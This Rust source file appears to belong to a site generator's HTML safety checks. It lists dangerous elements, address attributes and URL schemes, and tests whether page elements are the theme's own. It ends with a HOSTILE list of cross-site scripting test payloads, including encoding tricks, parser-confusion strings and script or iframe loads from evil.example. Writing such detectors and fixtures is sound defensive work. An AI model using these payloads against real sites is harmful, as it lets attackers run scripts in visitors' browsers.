//! What no page may hold unless its author's HTML is trusted.

use super::tokens::{Token, tokens};

/// Elements that run code, load pages, or change how the tokens behind them are read.
const ELEMENTS: [&str; 23] = [
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "applet",
    "frame",
    "frameset",
    "base",
    "meta",
    "link",
    "form",
    "title",
    "textarea",
    "xmp",
    "noscript",
    "plaintext",
    "template",
    "animate",
    "set",
    "foreignobject",
    "use",
    "annotation-xml",
];

/// Attributes that hold an address.
const ADDRESSES: [&str; 13] = [
    "href",
    "src",
    "xlink:href",
    "action",
    "formaction",
    "poster",
    "data",
    "cite",
    "background",
    "ping",
    "longdesc",
    "manifest",
    "srcset",
];

/// Attributes that are shown or spoken, and so may say anything.
const TEXTS: [&str; 5] = ["alt", "alttext", "title", "aria-label", "class"];

/// The dangerous tags of a piece of HTML.
pub fn dangers(html: &str) -> Vec<String> {
    tokens(html).iter().filter(|token| is_dangerous(token)).map(|token| format!("{token:?}")).collect()
}

fn is_dangerous(token: &Token) -> bool {
    let Token::Open { name, attributes } = token else { return false };
    let runs = |(attribute, value): (&String, &String)| {
        is_active(attribute) || !TEXTS.contains(&attribute.as_str()) && is_dangerous_url(value)
    };
    ELEMENTS.contains(&name.as_str()) || attributes.iter().any(runs)
}

fn is_active(attribute: &str) -> bool {
    attribute.starts_with("on") || matches!(attribute, "style" | "srcdoc")
}

/// What a browser would run, load or obey in a whole page, but for what is the theme's own. Its links are resolved, so
/// only the schemes that are let through may stand in it.
pub fn foreign(html: &str) -> Vec<String> {
    let tokens = tokens(html);
    let is_foreign = |at: &usize| is_foreign(&tokens[*at..]);
    (0..tokens.len()).filter(is_foreign).map(|at| format!("{:?}", tokens[at])).collect()
}

fn is_foreign(tokens: &[Token]) -> bool {
    let Token::Open { name, attributes } = &tokens[0] else { return false };
    let leads_away = |(attribute, value): (&String, &String)| {
        is_active(attribute) || ADDRESSES.contains(&attribute.as_str()) && !is_harmless(value)
    };
    ELEMENTS.contains(&name.as_str()) && !is_own(name, tokens) || attributes.iter().any(leads_away)
}

/// Whether an element of the page is there by the theme: nothing is in its scripts, and they come from the site itself.
fn is_own(name: &str, tokens: &[Token]) -> bool {
    let value = |attribute: &str| tokens[0].attribute(attribute).unwrap_or_default();
    let is_theme = |url: &str| url.starts_with('/') && !url.starts_with("//") && url.contains("/assets/theme.");
    match name {
        "title" | "template" => true,
        "script" if value("type") == "application/ld+json" => is_data(tokens),
        "script" => is_theme(value("src")) && tokens.get(1).is_some_and(|next| next.closes("script")),
        "link" if value("rel") == "alternate" => {
            matches!(value("type"), "text/markdown" | "application/atom+xml") && value("href").starts_with('/')
        }
        "link" => is_theme(value("href")) || matches!(value("rel"), "canonical" | "icon"),
        "meta" if value("http-equiv") == "refresh" => {
            value("content").strip_prefix("0; url=/").is_some_and(|path| !path.starts_with('/'))
        }
        "meta" => true,
        _ => false,
    }
}

/// Whether a script holds JSON that nothing in it can end, and no code.
fn is_data(tokens: &[Token]) -> bool {
    let [open, Token::Text(json), close, ..] = tokens else { return false };
    let is_json = json.starts_with('{') && json.ends_with('}') && !json.contains(['<', '>', '&']);
    open.has_only(&[("type", "application/ld+json")]) && is_json && close.closes("script")
}

/// As browsers read an address: no spaces and control characters before it, and no tabs and line ends in it. `data:,` is
/// what stands in the place of an image that is not there.
fn is_harmless(address: &str) -> bool {
    let address = address.trim_start_matches(|c: char| c <= ' ').replace(['\t', '\n', '\r'], "");
    let Some((scheme, _)) = address.split_once(':') else { return true };
    let is_scheme = scheme.starts_with(|c: char| c.is_ascii_alphabetic())
        && scheme.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'));
    let is_let_through = ["http", "https", "mailto", "tel"].contains(&scheme.to_ascii_lowercase().as_str());
    !is_scheme || is_let_through || address == "data:,"
}

/// A browser drops tabs and line ends from a URL, and control characters and spaces before it.
fn is_dangerous_url(url: &str) -> bool {
    let url: String = url.chars().filter(|c| !c.is_control() && !c.is_whitespace()).collect();
    let url = url.to_ascii_lowercase();
    ["javascript:", "vbscript:", "data:"].iter().any(|scheme| url.starts_with(scheme))
}

/// Markdown that would run something if it could.
pub const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "a <script src=//evil.example/x.js></script> b",
    "<SCRIPT\n>alert(1)</SCRIPT\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script/x>",
    "</p><script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><a title=\"</title><script>alert(1)</script>\">",
    "<!-- --!><script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "a <!-- b\n\n<img src=x onerror=alert(1)>\n\n--> c",
    "<?php <script>alert(1)</script> ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!X <script>alert(1)</script>>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<base href=https://evil.example/><meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61vascript:alert(1)\">x</a>",
    "<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\" \u{1}javascript:alert(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href='\"><script>alert(1)</script>'>x</a>",
    "<a href=x\" onclick=\"alert(1)>x</a>",
    "<img src=\"a&quot; onerror=&quot;alert(1)\">",
    "<video poster=javascript:alert(1) src=vbscript:x onplay=alert(1)><source src=javascript:alert(1)></video>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1) \"t\")",
    "[x](&#106;avascript&colon;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<\u{c}javascript:alert(1)>)",
    "[x](\\javascript:alert(1))",
    "[x](vbscript:msgbox(1)) [y](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)> and <data:text/html,x>",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](/a \"\\\" onmouseover=\\\"alert(1)\")",
    "![\" onerror=\"alert(1)](x.png '\" onerror=\"alert(1)')",
    "![a ![\"><script>alert(1)</script>](b)](c)",
    "https://a.example/\"onmouseover=\"alert(1) and https://a.example/'><script>alert(1)</script>",
    "# <script>alert(1)</script> `<img src=x onerror=alert(1)>` {#x\"><script> .y\"onclick=\"z}",
    "Title <img src=x onerror=alert(1)>\n===\n\n## \" onclick=\"alert(1)",
    "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "```html title=\"\\\"><script>alert(1)</script>\" {1}\n<img src=x onerror=alert(1)>\n```",
    "```js tab=\"<script>alert(1)</script>\"\na\n```\n```py tab=\"\\\" onclick=\\\"alert(1)\"\nb\n```",
    "    </code></pre><script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    ":::note[<script>alert(1)</script> <img src=x onerror=alert(1)>]\nx\n:::",
    ":::details[\"><script>alert(1)</script>]\nx\n:::",
    ":::\"><script>alert(1)</script>\nx\n:::",
    ":::new{since=\"v1\"><script>alert(1)</script>\"}\nx\n:::",
    "> [!NOTE] <script>alert(1)</script> <img src=x onerror=alert(1)>\n> x",
    "a[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
    "a[^\"onclick=\"alert(1)]\n\n[^\"onclick=\"alert(1)]: b",
    "| <script> | \" |\n| --- | :-: |\n| <img src=x onerror=alert(1)> | `\\|<script>` |",
    "- [x] <script>alert(1)</script>\n- [ ] [y](javascript:alert(1))",
    "term\n: <script>alert(1)</script>",
    "\u{1}0\u{1} &#1;0&#1; \u{2}0\u{2} &#2;0&#x2;\n\n```\n<script>alert(1)</script>\n```",
    "<b title=\"&#2;0&#2;\">x</b>\n\n```\"><script>\nx\n```",
    "<div>\n\n:::example\n<script>alert(1)</script>\n:::\n",
];
